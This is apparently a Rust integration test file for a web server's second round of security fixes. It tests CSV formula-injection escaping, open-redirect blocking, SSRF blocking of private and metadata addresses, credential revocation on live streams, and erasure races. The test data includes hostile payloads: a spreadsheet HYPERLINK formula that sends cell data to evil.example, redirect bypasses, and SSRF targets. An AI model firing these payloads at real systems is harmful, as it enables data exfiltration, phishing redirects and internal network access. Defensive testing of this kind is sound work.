//! Trust, second round (issue 22), on SQLite and PostgreSQL: what a spreadsheet, a private
//! address, a revoked credential and a racing erasure can no longer do. Each test failed on the
//! main branch before its fix.

mod common;

use common::{Tenant, TestApp};
use serde_json::{Value, json};

on_both_databases!(
    no_csv_flow_writes_runs_a_formula,
    numeric_query_parameters_are_bounded,
    the_language_switch_goes_back_only_to_this_site,
    a_live_stream_lives_no_longer_than_its_credential,
    suppression_is_keyed_outside_the_database,
    an_email_taken_elsewhere_names_no_team,
);

on_both_databases!(
    with [("FLOW_EVOLUTION_ALLOW_PRIVATE", "false")];
    evolution_urls_must_be_public_unless_the_operator_allows_private,
);

/// Makes `email` an admin of `t` and logs them in; their session cookie.
async fn admin_session(app: &TestApp, t: &Tenant, email: &str) -> String {
    flow_server::service::users::create(
        &app.state.db,
        t.id,
        email,
        "correct horse battery",
        flow_server::auth::Role::Admin,
    )
    .await
    .unwrap();
    let (status, cookie) = app.try_login(email, "correct horse battery").await;
    assert_eq!(status, 200);
    cookie.expect("session cookie")
}

/// Every cell that a spreadsheet would run: a leading `=`, `+`, `-`, `@`, tab or carriage
/// return.
fn runs_in_a_spreadsheet(cell: &str) -> bool {
    matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// The CSV at `path` (token auth), read with `delimiter`: every cell.
async fn cells(app: &TestApp, t: &Tenant, path: &str, delimiter: u8) -> Vec<String> {
    let res = app
        .client
        .get(app.url(path))
        .bearer_auth(&t.token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200, "{path}");
    let bytes = res.bytes().await.unwrap();
    let text = String::from_utf8_lossy(&bytes);
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

async fn no_csv_flow_writes_runs_a_formula(app: TestApp) {
    let t = app.tenant("Loja").await;
    let inst = app.instance(&t, "loja-01").await;
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&C2;\"Abrir\")",
        "+55 cmd",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ];
    // Names a person typed, each opted out (the opt-outs export) and in a campaign (the
    // recipients export).
    let rows: Vec<Value> = formulas
        .iter()
        .enumerate()
        .map(|(i, name)| json!({ "name": name, "phone": format!("+55 11 98100-00{i:02}") }))
        .collect();
    let (status, report) = app
        .post(&t.token, "/api/v1/contacts", Value::Array(rows))
        .await;
    assert_eq!(status, 200, "{report}");
    let (_, list) = app.get(&t.token, "/api/v1/contacts?limit=100").await;
    let ids: Vec<i64> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids.len(), formulas.len());
    let campaign = app.campaign(&t, inst["id"].as_i64().unwrap(), &ids).await;
    for id in &ids {
        app.post(
            &t.token,
            &format!("/api/v1/contacts/{id}/opt-out"),
            json!({"reason": "=1+1"}),
        )
        .await;
    }
    // Rejected cells of an import: the report's errors.csv writes them back.
    let mut file = b"nome;telefone\r\n".to_vec();
    for f in formulas {
        file.extend(format!("x;\"{f}\"\r\n").as_bytes());
    }
    let job = app.import_file(&t, file).await["id"].as_i64().unwrap();

    for (path, delimiter) in [
        ("/api/v1/contacts/export".to_string(), b';'),
        (format!("/api/v1/contacts/imports/{job}/errors.csv"), b';'),
        ("/export/opt-outs.csv".to_string(), b','),
        (format!("/export/campaigns/{campaign}/recipients.csv"), b','),
    ] {
        let cells = cells(&app, &t, &path, delimiter).await;
        assert!(cells.len() > formulas.len(), "{path}: {cells:?}");
        let live: Vec<&String> = cells.iter().filter(|c| runs_in_a_spreadsheet(c)).collect();
        assert!(live.is_empty(), "{path} writes formulas: {live:?}");
        // The text is kept, shown as text.
        assert!(
            cells.iter().any(|c| c.starts_with("'=HYPERLINK")
                || c.starts_with("'+55 cmd")
                || c.starts_with("'@SUM")),
            "{path}: {cells:?}"
        );
    }
}

/// A number past what the database takes is refused with 422, never a dropped connection.
async fn numeric_query_parameters_are_bounded(app: TestApp) {
    let t = app.tenant("Loja").await;
    for path in [
        "/api/v1/campaigns?offset=9223372036854775808",
        "/api/v1/contacts?offset=18446744073709551615",
        "/api/v1/campaigns?offset=9223372036854775807&limit=1",
    ] {
        let (status, body) = app.get(&t.token, path).await;
        if path.ends_with("limit=1") {
            assert_eq!(status, 200, "{path}: {body}");
        } else {
            assert_eq!(status, 422, "{path}: {body}");
            assert!(
                body["message"].as_str().unwrap().contains("offset"),
                "{body}"
            );
        }
    }
    // An empty CSV is an empty import, as the schema allows.
    let res = app
        .client
        .post(app.url("/api/v1/contacts"))
        .bearer_auth(&t.token)
        .header("content-type", "text/csv")
        .body("")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let report: Value = res.json().await.unwrap();
    assert_eq!(report["created"], 0, "{report}");
}

/// The language switch goes back only to a page of this site: a tab the form decodes
/// (`/%09/evil.example`, which browsers read as `//evil.example`) sends the reader home.
async fn the_language_switch_goes_back_only_to_this_site(app: TestApp) {
    let t = app.tenant("Loja").await;
    let cookie = admin_session(&app, &t, "ana@loja.test").await;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    for (back, expected) in [
        ("/%09/evil.example", "/"),
        ("/%5C/evil.example", "/"),
        ("//evil.example", "/"),
        ("/campaigns%3Fstatus%3Dread", "/campaigns?status=read"),
    ] {
        let res = client
            .post(app.url("/preferences/locale"))
            .header(reqwest::header::COOKIE, &cookie)
            .header(
                reqwest::header::CONTENT_TYPE,
                "application/x-www-form-urlencoded",
            )
            .body(format!("locale=en&back={back}"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status().as_u16(), 303, "{back}");
        assert_eq!(
            res.headers()[reqwest::header::LOCATION].to_str().unwrap(),
            expected,
            "{back}"
        );
    }
}

/// Whether the stream `res` ends (its server closes it) within `within`.
async fn ends_within(res: &mut reqwest::Response, within: std::time::Duration) -> bool {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, res.chunk()).await {
            Err(_) => return false,
            Ok(Ok(Some(_))) => {}
            Ok(Ok(None) | Err(_)) => return true,
        }
    }
}

/// A live stream lives no longer than its credential: a revoked API token's stream ends at
/// once (not after the 30 s re-check), and an admin demoted to viewer stops getting webhook
/// secrets at once.
async fn a_live_stream_lives_no_longer_than_its_credential(app: TestApp) {
    use common::sse::next_matching;
    use std::time::Duration;
    let t = app.tenant("Loja").await;
    let inst = app.instance(&t, "loja-01").await;
    let secret = inst["webhook_secret"].as_str().unwrap().to_string();
    let (status, created) = app
        .post(&t.token, "/api/v1/tokens", json!({"name": "painel da TV"}))
        .await;
    assert_eq!(status, 201, "{created}");
    let open = |auth: (reqwest::header::HeaderName, String)| {
        app.client
            .get(app.url("/api/v1/events"))
            .header(auth.0, auth.1)
            .send()
    };
    let mut by_token = open((
        reqwest::header::AUTHORIZATION,
        format!("Bearer {}", created["token"].as_str().unwrap()),
    ))
    .await
    .unwrap();
    let mut buf = String::new();
    assert!(
        next_matching(&mut by_token, &mut buf, Duration::from_secs(5), |e, _| e
            == "ready")
        .await
        .is_some()
    );
    let (status, _) = app
        .delete(&t.token, &format!("/api/v1/tokens/{}", created["id"]))
        .await;
    assert_eq!(status, 204);
    assert!(
        ends_within(&mut by_token, Duration::from_secs(3)).await,
        "a revoked token's stream must end at once"
    );

    // An admin's stream, then the admin is demoted (another admin stays).
    admin_session(&app, &t, "chefe@loja.test").await;
    let cookie = admin_session(&app, &t, "bia@loja.test").await;
    let mut by_admin = open((reqwest::header::COOKIE, cookie)).await.unwrap();
    let mut buf = String::new();
    assert!(
        next_matching(&mut by_admin, &mut buf, Duration::from_secs(5), |e, _| e
            == "ready")
        .await
        .is_some()
    );
    let (_, users) = app.get(&t.token, "/api/v1/users").await;
    let bia = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["email"] == "bia@loja.test")
        .unwrap()["id"]
        .clone();
    let (status, body) = app
        .patch(
            &t.token,
            &format!("/api/v1/users/{bia}"),
            json!({"role": "viewer"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    // Evolution reports the instance: its change goes to every stream of the tenant.
    let url = inst["webhook_url"].as_str().unwrap().to_string();
    let hook = json!({
        "event": "connection.update",
        "instance": "loja-01",
        "data": {"instance": "loja-01", "state": "open", "statusReason": 200},
    });
    let (status, _) = app
        .webhook(url.trim_start_matches(&app.base), &[], &hook)
        .await;
    assert!(status < 300);
    let seen = next_matching(&mut by_admin, &mut buf, Duration::from_secs(5), |e, v| {
        e == "instance" && v["data"]["instance_name"] == "loja-01"
    })
    .await
    .expect("the instance change reaches the (now viewer's) stream");
    assert!(
        !seen.to_string().contains(&secret),
        "a demoted admin's stream carries no webhook secret: {seen}"
    );
}

/// Flow does not become a proxy into the operator's network: without
/// `FLOW_EVOLUTION_ALLOW_PRIVATE=true`, an instance whose Evolution URL names or resolves to a
/// loopback, private, link-local or metadata address is refused (and never called), and so is
/// a URL with a user, a query or a fragment.
async fn evolution_urls_must_be_public_unless_the_operator_allows_private(app: TestApp) {
    let t = app.tenant("Loja").await;
    // Something listening on loopback that must never be called.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let cases = [
        (format!("http://127.0.0.1:{port}"), true),
        (format!("http://localhost:{port}"), true),
        ("http://169.254.169.254".to_string(), true),
        ("http://[::1]:8080".to_string(), true),
        ("http://10.0.0.7:8080".to_string(), true),
        ("http://0x7f.1:8080".to_string(), true),
        ("https://user:secret@evo.example.com".to_string(), false),
        ("https://evo.example.com/?next=".to_string(), false),
        ("https://evo.example.com/#x".to_string(), false),
    ];
    for (url, private) in &cases {
        let (status, body) = app
            .post(
                &t.token,
                "/api/v1/instances",
                json!({"instance_name": "loja-01", "api_url": url, "api_key": "k", "api_version": "v2"}),
            )
            .await;
        assert_eq!(status, 422, "{url}: {body}");
        let message = body["message"].as_str().unwrap();
        assert_eq!(
            message.contains("FLOW_EVOLUTION_ALLOW_PRIVATE=true"),
            *private,
            "{url}: {message}"
        );
    }
    let (_, instances) = app.get(&t.token, "/api/v1/instances").await;
    assert_eq!(instances.as_array().map(Vec::len), Some(0), "{instances}");
    let called =
        tokio::time::timeout(std::time::Duration::from_millis(300), listener.accept()).await;
    assert!(called.is_err(), "Flow called a loopback address");
}

/// An erasure cannot be undone by a racing import (PostgreSQL, where they run in parallel):
/// an import batch holds the tenant's import lock from reading its contacts to writing them,
/// and the erasure waits for it, so it never commits between the batch's read and its write.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_erasure_waits_for_the_import_batch_that_read_the_person() {
    use flow_server::service::{consent, contacts};
    use sea_orm::TransactionTrait;
    use std::time::Duration;
    common::within_limit("an_erasure_waits_for_the_import_batch", async {
        let app = common::spawn(common::Backend::Postgres).await;
        let t = app.tenant("Loja").await;
        let (status, _) = app
            .post(
                &t.token,
                "/api/v1/contacts",
                json!([{"name": "Zé", "phone": "(11) 98888-0002"}]),
            )
            .await;
        assert_eq!(status, 200);
        let (_, found) = app.get(&t.token, "/api/v1/contacts?q=Z%C3%A9").await;
        let id = found[0]["id"].as_i64().unwrap();
        // An import batch is under way: it took the lock and read the person.
        let batch = app.state.db.write.begin().await.unwrap();
        contacts::import_lock(&batch, t.id).await.unwrap();
        let db = app.state.db.clone();
        let erase = tokio::spawn(async move { consent::erase(&db, t.id, id, "test").await });
        tokio::time::sleep(Duration::from_millis(500)).await;
        assert!(
            !erase.is_finished(),
            "the erasure waits for the import batch"
        );
        batch.commit().await.unwrap();
        erase.await.unwrap().unwrap();
        let (status, _) = app.get(&t.token, &format!("/api/v1/contacts/{id}")).await;
        assert_eq!(status, 404, "erased");
    })
    .await;
}

/// The tenant's suppression hashes.
async fn suppression_hashes(app: &TestApp, t: &Tenant) -> Vec<String> {
    use sea_orm::FromQueryResult;
    #[derive(FromQueryResult)]
    struct H {
        phone_hash: String,
    }
    H::find_by_statement(flow_server::sql::stmt(
        app.state.db.backend(),
        "SELECT phone_hash FROM suppression WHERE tenant_id = ? ORDER BY phone_hash",
        vec![t.id.into()],
    ))
    .all(&app.state.db.read)
    .await
    .unwrap()
    .into_iter()
    .map(|h| h.phone_hash)
    .collect()
}

/// An erased number is kept as an HMAC under `FLOW_SUPPRESSION_KEY` (outside the database:
/// nothing in the database re-computes it), entries written the old way keep suppressing, and
/// the import reports forget the person's rejected cells.
async fn suppression_is_keyed_outside_the_database(app: TestApp) {
    use hmac::{Hmac, Mac};
    use sha2::{Digest, Sha256};
    let t = app.tenant("Loja").await;
    // A rejected row of an import that names the person, in a broken spelling.
    let job = app
        .import_file(
            &t,
            "nome;telefone\nZé;(11) 98888-0002 ramal 3\nOutro;(21) 9 abc\n",
        )
        .await["id"]
        .as_i64()
        .unwrap();
    let report = app.import_one(&t, "Zé", "(11) 98888-0002").await;
    assert_eq!(report["created"], 1);
    let (_, found) = app.get(&t.token, "/api/v1/contacts?q=Z%C3%A9").await;
    let id = found[0]["id"].as_i64().unwrap();
    let (status, _) = app
        .delete(&t.token, &format!("/api/v1/contacts/{id}"))
        .await;
    assert_eq!(status, 204);

    let mut mac =
        <Hmac<Sha256> as Mac>::new_from_slice(common::SUPPRESSION_KEY.as_bytes()).unwrap();
    mac.update(b"5511988880002");
    let keyed = hex::encode(mac.finalize().into_bytes());
    assert_eq!(suppression_hashes(&app, &t).await, vec![keyed]);
    let (_, job_view) = app
        .get(&t.token, &format!("/api/v1/contacts/imports/{job}"))
        .await;
    let phones: Vec<&str> = job_view["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["phone"].as_str().unwrap())
        .collect();
    assert_eq!(
        phones,
        ["(21) 9 abc"],
        "the erased person's cell is gone: {job_view}"
    );
    // Back in any spelling: opted out.
    let report = app.import_one(&t, "Zé", "011 98888-0002").await;
    assert_eq!(report["created"], 1);
    let (_, back) = app
        .get(&t.token, "/api/v1/contacts?phone=5511988880002")
        .await;
    assert_eq!(back[0]["opted_out"], true, "{back}");

    // An entry written before keys existed (salted, in the database) still suppresses.
    app.exec_sql(
        "UPDATE tenant SET suppression_salt = 'sal' WHERE id = ?",
        vec![t.id.into()],
    )
    .await;
    let salted = hex::encode(Sha256::digest("sal:5521998877665"));
    app.exec_sql(
        "INSERT INTO suppression (tenant_id, phone_hash, created_at) VALUES (?, ?, ?)",
        vec![t.id.into(), salted.into(), chrono::Utc::now().into()],
    )
    .await;
    let report = app.import_one(&t, "Rita", "(21) 99887-7665").await;
    assert_eq!(report["created"], 1);
    let (_, rita) = app.get(&t.token, "/api/v1/contacts?q=Rita").await;
    assert_eq!(rita[0]["opted_out"], true, "{rita}");
}

/// An e-mail taken in another team is refused without saying which team holds it.
async fn an_email_taken_elsewhere_names_no_team(app: TestApp) {
    let other = app.tenant("Farmácia Segredo").await;
    let (status, _) = app
        .post(
            &other.token,
            "/api/v1/users",
            json!({"email": "ana@exemplo.com", "password": "correct horse battery", "role": "viewer"}),
        )
        .await;
    assert_eq!(status, 201);
    let t = app.tenant("Loja").await;
    let (status, body) = app
        .post(
            &t.token,
            "/api/v1/users",
            json!({"email": "Ana@Exemplo.com", "password": "correct horse battery", "role": "viewer"}),
        )
        .await;
    assert_eq!(status, 409, "{body}");
    let text = body.to_string();
    assert!(
        !text.contains("Farmácia") && !text.contains("Segredo"),
        "{text}"
    );
    assert!(!text.contains(&format!("tenant {}", other.id)), "{text}");
}
